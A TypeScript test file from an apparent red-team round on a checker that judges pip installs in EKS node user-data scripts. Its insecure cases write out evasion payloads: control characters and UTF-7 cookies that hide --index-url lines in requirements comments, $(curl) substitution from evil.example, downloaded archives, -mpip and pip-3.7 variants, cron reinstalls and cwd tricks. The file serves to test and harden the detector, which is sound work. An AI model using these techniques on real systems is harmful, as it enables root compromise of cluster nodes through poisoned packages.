// Red-team round 76 (python, fresh eyes) on EKS NODE user data: pip trust, hardest on round 76's new `pip install -r
// FILE` trust (a requirements file user data wrote, every line a name specifier, read as it was at the pip line).
// Probed (insecure, 19): requirements-file text pip reads differently from the pack (str.splitlines boundaries \f \v
// \x85 \x1c inside a comment, a PEP 263-style `coding: utf-7` cookie pip's auto_decode honours, a local archive line,
// $(...) expanded into the file by an unquoted heredoc / echo), the pip line run more than once or from another
// directory than the pack thinks (a loop, a function called twice, a ( cd ) subshell, pushd/popd), and the pip line
// scan itself (backslash-newline continuation, a quoted " #" cutting the rest of the line, `python3 -mpip`, AL2's
// pip-3.7, an optparse abbreviation --req), plus a control (--index-url).
// Secure (10): a utf-8 cookie, two -r files, PyJWT -> jwt, printf-written file, CRLF + tab comment, ./req.txt,
// -r plus an operand, a quoted specifier, a continued plain install, an unchanged file a cron job installs again.
// Misses: insecure 16 of 19 accepted, by class:
// - REQ-TEXT (8): requirementFileNames (pythonCode.ts) splits on \r?\n only and cuts comments with a JS `.` that
//   crosses \f \v \x85 \x1c (pip: content.splitlines() first); ignores pip's coding cookie (auto_decode); lets
//   `srvx.zip` pass as a name; and view.text keeps $(...) literal in unquoted heredocs/echo. Fix: undefined on any
//   splitlines boundary but \n/\r\n, any non-utf-8 cookie or BOM, archive-suffixed lines, any $/backtick.
// - REQ-RUNS (3): a loop body runs once in the reader (one run, one site) though it rewrites the file; ( cd ) in a
//   subshell and pushd/popd leave the pack's cwd at the inner directory. Fix: loops withdraw -r trust; model
//   subshell/popd cwd (or unknown).
// - PIP-LINE-SCAN (5): scriptPipModules splits on \n before joining backslash-newlines and cuts `\s#` inside quotes;
//   pipWordsAt and the fallback retraction miss `python3 -mpip` and `pip-3.N`. Fix: tokenise as the shell does
//   (continuations, quotes, then comments); treat -mpip/-Im pip and pip-N.M as pip or retract all on any word with pip.
// Secure 2 of 10 refused (fail-closed): a continued `pip3 install -q \ tenacity` (same continuation fix), and a cron
// job re-running an unchanged name-only -r file (sites > runs; DECIDED candidate).
// Held: a function called twice around a rewrite, --req abbreviation, the --index-url control; the 8 other secure.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** The refusal of code imported from a module pip may have installed from anywhere (srvx, pipRun). */
const SRVX_UNTRUSTED = /imports srvx|srvx/;

const EVIL = "https://pypi.evil.example/simple";

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
    ]);

/** tune.py importing a pip-installed module `mod` and calling its main(), after the `install` shell lines. */
const pipRun = (name: string, install: string[], mod = "srvx") =>
    tune(name, [`import ${mod}`, `${mod}.main()`], install);

/** tune.py importing tenacity (a default-index project) and printing its name, after the `install` shell lines. */
const tenacity = (name: string, install: string[]) =>
    tune(name, ["import tenacity", "print(tenacity.__name__)"], install);

const insecure: NodeCase[] = [
    // Control: pip docs "pip install" --index-url: a project from another index is not the default index's.
    dev(
        "user data: pip3 install --index-url EVIL srvx (control: another index)",
        pipRun("dev-py76r-pip-control-index-nodes", [`pip3 install --index-url ${EVIL} srvx`]),
        SRVX_UNTRUSTED,
    ),
    // Python docs "str.splitlines": splits on \v \f \x1c \x1d \x1e \x85 \u2028 \u2029 too; pip req_file.py
    // preprocess: `enumerate(content.splitlines(), start=1)`, then join_lines, ignore_comments. A form feed inside a
    // comment ends the line for pip: the next "line" is --index-url.
    // Was a MISS (fixed in round 76): pip req_file.py preprocess splits the file with `content.splitlines()` (Python docs "str.splitlines": \v \f \x1c-\x1e \x85 \u2028 \u2029 are line boundaries) BEFORE ignore_comments, so `--index-url` after the \f is its own option line; an attacker who controls the other index (or the downloaded file) gets its srvx run as root by tune.py: a root shell on the node, the kubelet's and every pod's credentials, the node role's custody access. The pack (pythonCode.ts requirementFileNames) splits on \r?\n only and its comment cut `(?:^|\s)#.*$` (JS `.` matches \f) swallows the option: srvx trusted, got []. Fix: refuse (undefined) any requirements text holding a character str.splitlines breaks on other than \n/\r\n (\v \f \x1c \x1d \x1e \x85 \u2028 \u2029, a lone \r), or split as splitlines does before stripping comments.
    dev(
        "user data: req.txt `srvx  # pinned<FF>--index-url EVIL` (pip's splitlines ends the comment at \\f); pip3 install -r",
        pipRun("dev-py76r-req-formfeed-comment-nodes", [
            ...heredocFile("/etc/ops/req.txt", [`srvx  # pinned\f--index-url ${EVIL}`]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): same class as the \f case (str.splitlines breaks on \v; pip preprocess): --extra-index-url reaches pip, srvx may come from it; requirementFileNames' comment cut hides it. Fix: as the \f case.
    dev(
        "user data: req.txt `srvx # x<VT>--extra-index-url=EVIL` (vertical tab, a splitlines boundary)",
        pipRun("dev-py76r-req-vtab-comment-nodes", [
            ...heredocFile("/etc/ops/req.txt", [`srvx # x\v--extra-index-url=${EVIL}`]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): same class (str.splitlines breaks on U+0085 NEL in the decoded text): `-i EVIL` is its own line for pip; hidden in the pack's comment. Fix: as the \f case.
    dev(
        "user data: req.txt `srvx # x<U+0085>-i EVIL` (NEL, a splitlines boundary in the decoded text)",
        pipRun("dev-py76r-req-nel-comment-nodes", [
            ...heredocFile("/etc/ops/req.txt", [`srvx # x\u0085-i ${EVIL}`]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): same class (str.splitlines breaks on \x1c): `-r /etc/ops/more.txt` is a nested requirements file whose --index-url pip applies; hidden in the pack's comment. Fix: as the \f case.
    dev(
        "user data: req.txt `srvx # x<FS>-r /etc/ops/more.txt` (file separator \\x1c; more.txt holds an index)",
        pipRun("dev-py76r-req-fs-nested-nodes", [
            ...heredocFile("/etc/ops/more.txt", [`--index-url ${EVIL}`, "srvx"]),
            ...heredocFile("/etc/ops/req.txt", ["srvx # x\x1c-r /etc/ops/more.txt"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // pip utils/encoding.py auto_decode: no BOM, then "Lets check the first two lines as in PEP263": a line starting
    // with # matching `coding[:=]\s*([-\w.]+)` decodes the whole file with that codec. UTF-7 (Python codec utf_7):
    // `+AAo-` is "\n", so a comment carries a new line pip reads as --index-url.
    // Was a MISS (fixed in round 76): pip utils/encoding.py auto_decode: with no BOM, a first-or-second line starting with # that matches ENCODING_RE `coding[:=]\s*([-\w.]+)` decodes the WHOLE file with that codec; Python's utf_7 decodes `+AAo-` to \n, so the comment's tail is an `--index-url` line; an attacker who controls the other index (or the downloaded file) gets its srvx run as root by tune.py: a root shell on the node, the kubelet's and every pod's credentials, the node role's custody access. The pack reads the bytes as UTF-8 text (requirementFileNames): both lines are comments/name, srvx trusted, got []. Fix: a requirements text whose first two lines carry a `coding[:=]` cookie naming anything but utf-8/ascii (or any BOM) is undefined (fail closed), as PEP 263 cookies already are for Python sources.
    dev(
        "user data: req.txt `# coding: utf-7` then `srvx # +AAo---index-url EVIL` (UTF-7 newline inside a comment)",
        pipRun("dev-py76r-req-utf7-comment-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["# coding: utf-7", `srvx # +AAo---index-url ${EVIL}`]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // pip docs "pip install" Argument Handling: "3. Local file (a sdist or wheel format archive ...)" before "4. A
    // requirement"; a requirements file line is read the same (install_req_from_line, is_archive_file). Round 75
    // made archive-suffixed OPERANDS files; a requirements file's line `srvx.zip` passes PIP_NAME_SPECIFIER.
    // Was a MISS (fixed in round 76): pip docs "pip install" Argument Handling (a local sdist/wheel file is tried before a requirement; req_file lines go through the same install_req_from_line / is_archive_file): `srvx.zip` in a requirements file installs the downloaded archive (whatever top-level modules it ships) from the working directory, not a default-index project. Round 75 made archive-suffixed OPERANDS files (scriptPipModules `archive`), but requirementFileNames uses only PIP_NAME_SPECIFIER, which accepts `srvx.zip`: module srvx_zip trusted, got []. Fix: apply the same archive test (and withdraw all trust, as for an archive operand) to requirements file lines.
    dev(
        "user data: curl srvx.zip into /opt/ops; req.txt `srvx.zip` (a local sdist, not a name); cd /opt/ops && pip3 install -r; import srvx_zip",
        pipRun(
            "dev-py76r-req-archive-line-nodes",
            [
                "mkdir -p /opt/ops",
                "curl -fsSLo /opt/ops/srvx.zip https://evil.example/srvx.zip",
                ...heredocFile("/etc/ops/req.txt", ["srvx.zip"]),
                "cd /opt/ops && pip3 install -r /etc/ops/req.txt",
            ],
            "srvx_zip",
        ),
        /srvx_zip/,
    ),
    // bash "Here Documents": with an unquoted delimiter, "all lines of the here-document are subjected to parameter
    // expansion, command substitution": the comment's $(curl ...) output becomes lines of the file.
    // Was a MISS (fixed in round 76): bash manual "Here Documents": with an unquoted delimiter the body undergoes parameter expansion and command substitution: the $(curl ...) output (e.g. "x\n--index-url EVIL") becomes lines of req.txt; an attacker who controls the other index (or the downloaded file) gets its srvx run as root by tune.py: a root shell on the node, the kubelet's and every pod's credentials, the node role's custody access. The pack keeps the literal text and cuts the `# $(curl ...)` as a comment: srvx trusted, got []. Fix: a file written from an unquoted heredoc/echo/printf holding $(...), `...` or $VAR anywhere (comments included) has unknown text for requirementFileNames (view.text undefined), or refuse any `$`/backtick in the requirements text before the comment cut.
    dev(
        "user data: unquoted heredoc req.txt `srvx # $(curl -fsS https://evil.example/tail)` (the output adds lines)",
        pipRun("dev-py76r-req-unquoted-heredoc-nodes", [
            "mkdir -p /etc/ops",
            "cat > /etc/ops/req.txt <<EOF",
            "srvx # $(curl -fsS https://evil.example/tail)",
            "EOF",
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): same class (POSIX sh "Command Substitution" inside double quotes; output newlines kept except trailing ones): the echoed file gains the curl output's lines; the pack reads the literal and cuts it as a comment. Fix: as the unquoted heredoc case.
    dev(
        'user data: echo "srvx # $(curl -fsS https://evil.example/tail)" > req.txt; pip3 install -r',
        pipRun("dev-py76r-req-echo-substitution-nodes", [
            "mkdir -p /etc/ops",
            'echo "srvx # $(curl -fsS https://evil.example/tail)" > /etc/ops/req.txt',
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // A shell function runs its body at each call (bash "Shell Functions"): the second call reads the file rewritten
    // with an index, but the text holds ONE pip line.
    dev(
        "user data: inst() { pip3 install -U -r /etc/ops/req.txt; }; req.txt srvx; inst; req.txt gets an index; inst",
        pipRun("dev-py76r-req-function-twice-nodes", [
            "inst() { pip3 install -U -r /etc/ops/req.txt; }",
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "inst",
            ...heredocFile("/etc/ops/req.txt", [`--index-url ${EVIL}`, "srvx"]),
            "inst",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): bash "Looping Constructs": the body runs per item, so the second `pip3 install -U -r` reads the file the first iteration rewrote with --index-url; an attacker who controls the other index (or the downloaded file) gets its srvx run as root by tune.py: a root shell on the node, the kubelet's and every pod's credentials, the node role's custody access. The pack records one run (rootWrites.ts ran: the body once, before the printf) and one site (one line in the text): srvx trusted, got []. (The function-called-twice neighbour is refused.) Fix: a pip -r line inside a loop body (or any construct the reader does not unroll) withdraws trust unless the file is unchanged after that line in the body.
    dev(
        "user data: for i in 1 2: pip3 install -U -r req.txt, the loop body rewrites req.txt with an index after",
        pipRun("dev-py76r-req-loop-twice-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "for i in 1 2; do",
            "  pip3 install -U -r /etc/ops/req.txt",
            `  printf -- '--index-url ${EVIL}\\nsrvx\\n' > /etc/ops/req.txt`,
            "done",
        ]),
        SRVX_UNTRUSTED,
    ),
    // bash "Definitions"/"Shell Builtin Commands": a subshell's cd does not change the parent's directory; pushd/popd.
    // Was a MISS (fixed in round 76): bash "Command Execution Environment": `( list )` runs in a subshell; its cd does not change the parent's directory, so `pip3 install -r req.txt` reads /req.txt (with --index-url); an attacker who controls the other index (or the downloaded file) gets its srvx run as root by tune.py: a root shell on the node, the kubelet's and every pod's credentials, the node role's custody access. The pack resolves the relative file against /etc/ops (rootWrites.ts ran's cwd): srvx trusted, got []. Fix: the working directory tracker must restore cwd after a ( ) subshell; until then a relative -r file after any ( ) with cd is unknown.
    dev(
        "user data: /etc/ops/req.txt srvx, /req.txt with an index; ( cd /etc/ops ); pip3 install -r req.txt",
        pipRun("dev-py76r-req-subshell-cd-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            ...heredocFile("/req.txt", [`--index-url ${EVIL}`, "srvx"]),
            "cd /",
            "( cd /etc/ops )",
            "pip3 install -r req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): bash "Directory Stack Builtins": popd returns to the directory pushd left (here /), so req.txt is /req.txt with --index-url; the pack keeps /etc/ops as cwd (pushd read as cd, popd ignored): srvx trusted, got []. Fix: model pushd/popd (or make cwd unknown after popd).
    dev(
        "user data: cd /; pushd /etc/ops; popd; pip3 install -r req.txt (reads /req.txt, with an index)",
        pipRun("dev-py76r-req-pushd-popd-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            ...heredocFile("/req.txt", [`--index-url ${EVIL}`, "srvx"]),
            "cd /",
            "pushd /etc/ops >/dev/null; popd >/dev/null",
            "pip3 install -r req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // POSIX sh "Escape Character (Backslash)": a backslash-newline is removed, the command continues on the next line.
    // Was a MISS (fixed in round 76): POSIX sh "Escape Character (Backslash)": a backslash-newline joins the lines into one command, so --index-url applies to the srvx install; the pack's scriptPipModules splits texts on \n before reading commands: line one is a trusted `pip3 install srvx`, line two (no pip word) is ignored: srvx trusted, got []. Fix: join backslash-newlines (outside single quotes) before splitting, as the shell does; the secure neighbour (continued `tenacity`) is the same fix.
    dev(
        "user data: `pip3 install srvx \\` continued on the next line by `--index-url EVIL`",
        pipRun("dev-py76r-pip-continuation-index-nodes", [`pip3 install srvx \\`, `  --index-url ${EVIL}`]),
        SRVX_UNTRUSTED,
    ),
    // POSIX sh "Comments": '#' starts a comment only at the start of a WORD, not inside quotes: the pack's `\s#` cut
    // removes the next pip command.
    // Was a MISS (fixed in round 76): POSIX sh "Comments": # starts a comment only at the start of a word and not inside quotes; the pack's scriptPipModules cuts `\s#.*$` of each line, so the quoted " #" hides the following `pip3 install -U --index-url EVIL srvx`: srvx trusted, got []. Fix: tokenise with quotes before cutting comments (a # inside quotes is text), or refuse a line whose cut text holds an unbalanced quote.
    dev(
        'user data: pip3 install srvx && echo " #" && pip3 install -U --index-url EVIL srvx',
        pipRun("dev-py76r-pip-quoted-hash-nodes", [
            `pip3 install srvx && echo " #" && pip3 install -U --index-url ${EVIL} srvx`,
        ]),
        SRVX_UNTRUSTED,
    ),
    // Python docs "Command line and environment": `-m <module-name>`; options may be attached (`-mpip`). Fedora/Amazon
    // Linux python3-pip also ships /usr/bin/pip-3 and pip-3.N.
    // Was a MISS (fixed in round 76): Python docs "Command line and environment" (`-m <module-name>`; CPython's getopt accepts the value attached: `-mpip`): a later reinstall of srvx from another index; scriptPipModules pipWordsAt knows only `-m pip` as two words and its fallback retraction matches the basenames pip[0-9.]*/uv/..., not `-mpip`: the untrusted reinstall is not seen, srvx trusted, got []. Fix: read python's option words (attached -m, -Im, -I -m, -E ... before -m) as pip, or retract all on any word containing `pip` in an install line the pack cannot parse.
    dev(
        "user data: pip3 install srvx, then `python3 -mpip install -U --index-url EVIL srvx` (attached -m)",
        pipRun("dev-py76r-pip-attached-m-nodes", [
            "pip3 install srvx",
            `python3 -mpip install -U --index-url ${EVIL} srvx`,
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): Fedora/Amazon Linux python3-pip installs /usr/bin/pip-3 and pip-3.N beside pip3 (the venv listing a pip-3.7 script is the same layout): `pip-3.7 install -U --index-url EVIL srvx` replaces srvx; pipWordsAt and the fallback both match only /^pip[0-9.]*$/, so the line is ignored: srvx trusted, got []. Fix: treat /^pip[-0-9.]*$/ as pip in both places (or retract on any unknown pip-like command word).
    dev(
        "user data: pip3 install srvx, then `pip-3.7 install -U --index-url EVIL srvx` (Amazon Linux's pip-3.N name)",
        pipRun("dev-py76r-pip-dash-version-nodes", [
            "pip3 install srvx",
            `/usr/bin/pip-3.7 install -U --index-url ${EVIL} srvx`,
        ]),
        SRVX_UNTRUSTED,
    ),
    // Was a MISS (fixed in round 76): same class as `-mpip` (a cron job's reinstall from another index, read by the same scriptPipModules fallback): not retracted, srvx trusted, got []. Fix: as the attached -m case.
    dev(
        "user data: req.txt srvx; pip3 install -r req.txt; then a cron job `python3 -mpip install -U -i EVIL srvx`",
        pipRun("dev-py76r-req-cron-attached-m-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "pip3 install -r /etc/ops/req.txt",
            `printf '@reboot root python3 -mpip install -U -i ${EVIL} srvx\\n' > /etc/cron.d/ops-pip`,
        ]),
        SRVX_UNTRUSTED,
    ),
    // Python docs "optparse": long options may be abbreviated ("--req" is --requirement); the pack reads only exact
    // spellings, so the abbreviation is an unknown option (fail closed).
    dev(
        "user data: req.txt holds an index; pip3 install --req /etc/ops/req.txt (an optparse abbreviation)",
        pipRun("dev-py76r-req-abbreviated-nodes", [
            ...heredocFile("/etc/ops/req.txt", [`--index-url ${EVIL}`, "srvx"]),
            "pip3 install --req /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Red team secure case, refused (fail closed; the lead may rule DECIDED): the cron job's `pip3 install -r /etc/ops/req.txt` reads the same name-only file user data wrote once and never changed after; scriptPipModules counts 2 sites against 1 run (rootWrites.ts ran) and withdraws all trust: refused "imports tenacity". Fix if wanted: a site the reader does not run may use the file's FINAL known text (view.text at the end of the script) when it is name-only.
    // DECIDED (round 76): fail closed is acceptable and it stays refused: cron(8) runs @reboot jobs when crond starts, which on a first boot may be while cloud-init still runs user data (cloud-init docs "Boot stages": user scripts run in the final stage, alongside other services), so the job may read req.txt at any point of the script, or after a later change the pack does not see; the pack trusts a requirements file only as read at a line it runs (rootWrites.ts ran).
    dev(
        "user data: req.txt tenacity; pip3 install -r it; a cron job installs it again (unchanged, name-only)",
        tenacity("dev-py76r-req-cron-unchanged-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "pip3 install -r /etc/ops/req.txt",
            "printf '@reboot root pip3 install -r /etc/ops/req.txt\\n' > /etc/cron.d/ops-pip",
        ]),
        /imports tenacity/,
    ),
    // Round 76 (py2) neighbours, insecure side.
    // pip utils/encoding.py auto_decode: without BOM or cookie, the locale's codec; a UTF-8 "Å" (\xc3\x85) read as
    // latin-1 holds \x85, a str.splitlines boundary: only ASCII requirements text is read (requirementFileNames).
    dev(
        "user data: req.txt `srvx # Å-i EVIL`-style non-ASCII comment (a locale codec may break the line); pip3 install -r",
        pipRun("dev-py76r2-req-non-ascii-comment-nodes", [
            ...heredocFile("/etc/ops/req.txt", [`srvx # \u00c5 then -i ${EVIL}`]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // pip _strip_extras then is_archive_file: `srvx.zip[x]` is the local archive too.
    dev(
        "user data: req.txt `srvx.zip[x]` (an archive with extras); cd /opt/ops && pip3 install -r; import srvx_zip",
        pipRun(
            "dev-py76r2-req-archive-extras-nodes",
            [
                "mkdir -p /opt/ops",
                "curl -fsSLo /opt/ops/srvx.zip https://evil.example/srvx.zip",
                ...heredocFile("/etc/ops/req.txt", ["srvx.zip[x]"]),
                "cd /opt/ops && pip3 install -r /etc/ops/req.txt",
            ],
            "srvx_zip",
        ),
        /srvx_zip/,
    ),
    // bash "Looping Constructs": a while loop's body runs again too.
    dev(
        "user data: while loop: pip3 install -r req.txt, then the body rewrites req.txt with an index",
        pipRun("dev-py76r2-req-while-loop-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            "n=0",
            "while [ $n -lt 2 ]; do",
            "  pip3 install -U -r /etc/ops/req.txt",
            `  printf -- '--index-url ${EVIL}\\nsrvx\\n' > /etc/ops/req.txt`,
            "  n=$((n+1))",
            "done",
        ]),
        SRVX_UNTRUSTED,
    ),
    // bash "cd": `cd -` is `cd "$OLDPWD"` (here /), not root's home.
    dev(
        "user data: cd /; cd /etc/ops; cd -; pip3 install -r req.txt (reads /req.txt, with an index)",
        pipRun("dev-py76r2-req-cd-dash-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
            ...heredocFile("/req.txt", [`--index-url ${EVIL}`, "srvx"]),
            "cd /",
            "cd /etc/ops",
            "cd - >/dev/null",
            "pip3 install -r req.txt",
        ]),
        SRVX_UNTRUSTED,
    ),
    // Python docs "Command line and environment": options before -m (`-E -s -m pip`) still run pip.
    dev(
        "user data: pip3 install srvx, then `python3 -E -s -m pip install -U -i EVIL srvx`",
        pipRun("dev-py76r2-pip-python-options-nodes", [
            "pip3 install srvx",
            `python3 -E -s -m pip install -U -i ${EVIL} srvx`,
        ]),
        SRVX_UNTRUSTED,
    ),
    // POSIX sh: `\\` is a literal backslash, so the newline after it ends the command (no continuation); the next
    // line is a command of its own.
    dev(
        "user data: `echo done \\\\` (escaped backslash) then `pip3 install -U -i EVIL srvx` on the next line",
        pipRun("dev-py76r2-pip-escaped-backslash-nodes", [
            "pip3 install srvx",
            "echo done \\\\",
            `pip3 install -U -i ${EVIL} srvx`,
        ]),
        SRVX_UNTRUSTED,
    ),
];

const secure: NodeCase[] = [
    dev(
        "user data: cd /etc/ops; pip3 install -r ./req.txt (tenacity)",
        tenacity("dev-py76r-req-dot-relative-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "cd /etc/ops",
            "pip3 install -r ./req.txt",
        ]),
    ),
    dev(
        "user data: req.txt `# -*- coding: utf-8 -*-` then tenacity==8.2.3; pip3 install -r",
        tenacity("dev-py76r-req-utf8-cookie-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["# -*- coding: utf-8 -*-", "tenacity==8.2.3"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
    ),
    dev(
        "user data: python3 -m pip install -r a.txt -r b.txt (tenacity, six); tune.py imports tenacity",
        tenacity("dev-py76r-req-two-files-nodes", [
            ...heredocFile("/etc/ops/a.txt", ["tenacity"]),
            ...heredocFile("/etc/ops/b.txt", ["six"]),
            "python3 -m pip install -r /etc/ops/a.txt -r /etc/ops/b.txt",
        ]),
    ),
    dev(
        "user data: req.txt PyJWT==2.8.0; pip3 install -r; tune.py imports jwt",
        tune(
            "dev-py76r-req-pyjwt-nodes",
            ["import jwt", "print(jwt.__name__)"],
            [...heredocFile("/etc/ops/req.txt", ["PyJWT==2.8.0"]), "pip3 install -r /etc/ops/req.txt"],
        ),
    ),
    dev(
        "user data: req.txt written by printf 'tenacity\\n'; pip3 install -r",
        tenacity("dev-py76r-req-printf-nodes", [
            "mkdir -p /etc/ops",
            "printf 'tenacity\\n' > /etc/ops/req.txt",
            "pip3 install -r /etc/ops/req.txt",
        ]),
    ),
    dev(
        "user data: req.txt with CRLF endings and a tab before a comment; pip3 install -r",
        tenacity("dev-py76r-req-crlf-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity>=8\r", "six\t# helper\r"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
    ),
    // Was a MISS (fixed in round 76): (secure, fail-closed) POSIX sh backslash-newline: `pip3 install -q \` + `  tenacity` is one default-index install of tenacity; scriptPipModules splits on \n first so tenacity is never seen installed: refused "imports tenacity, a module ... the pack does not know". Fix: join continuations first (same fix as the insecure continuation miss).
    dev(
        "user data: `pip3 install -q \\` continued by `  tenacity` (one command over two lines)",
        tenacity("dev-py76r-pip-continuation-plain-nodes", ["pip3 install -q \\", "  tenacity"]),
    ),
    dev(
        "user data: pip3 install -U -r /etc/ops/req.txt six (a file and an operand; tenacity in the file)",
        tenacity("dev-py76r-req-file-and-operand-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "pip3 install -U -r /etc/ops/req.txt six",
        ]),
    ),
    dev(
        "user data: pip3 install tenacity 'six>=1.16' (a quoted specifier)",
        tenacity("dev-py76r-pip-quoted-spec-nodes", ["pip3 install tenacity 'six>=1.16'"]),
    ),
    // Round 76 (py2) neighbours, secure side.
    dev(
        "user data: ( cd /etc/ops && pip3 install -r req.txt ) (the subshell's own directory)",
        tenacity("dev-py76r2-req-subshell-inside-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "( cd /etc/ops && pip3 install -r req.txt )",
        ]),
    ),
    dev(
        "user data: pushd /etc/ops; pip3 install -r req.txt; popd",
        tenacity("dev-py76r2-req-pushd-inside-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["tenacity"]),
            "pushd /etc/ops >/dev/null",
            "pip3 install -r req.txt",
            "popd >/dev/null",
        ]),
    ),
    dev(
        "user data: python3 -Im pip install tenacity (a clustered -m)",
        tenacity("dev-py76r2-pip-clustered-m-nodes", ["python3 -Im pip install tenacity"]),
    ),
    dev(
        "user data: /usr/bin/pip-3.7 install tenacity (Amazon Linux's pip-3.N name)",
        tenacity("dev-py76r2-pip-dash-version-plain-nodes", ["/usr/bin/pip-3.7 install tenacity"]),
    ),
    dev(
        "user data: req.txt `# coding: ascii` then tenacity; pip3 install -r",
        tenacity("dev-py76r2-req-ascii-cookie-nodes", [
            ...heredocFile("/etc/ops/req.txt", ["# coding: ascii", "tenacity"]),
            "pip3 install -r /etc/ops/req.txt",
        ]),
    ),
    dev(
        'user data: pip3 install tenacity && echo " # done" (a quoted #, nothing after it)',
        tenacity("dev-py76r2-pip-quoted-hash-plain-nodes", ['pip3 install tenacity && echo " # done"']),
    ),
    dev(
        "user data: quoted heredoc req.txt `tenacity` (no expansion); pip3 install -r",
        tenacity("dev-py76r2-req-quoted-heredoc-nodes", [
            "mkdir -p /etc/ops",
            "cat > /etc/ops/req.txt <<'EOF'",
            "tenacity",
            "EOF",
            "pip3 install -r /etc/ops/req.txt",
        ]),
    ),
];

describeNodeCases("red team 76: node user data, pip trust and requirements files (fresh eyes)", insecure, secure);
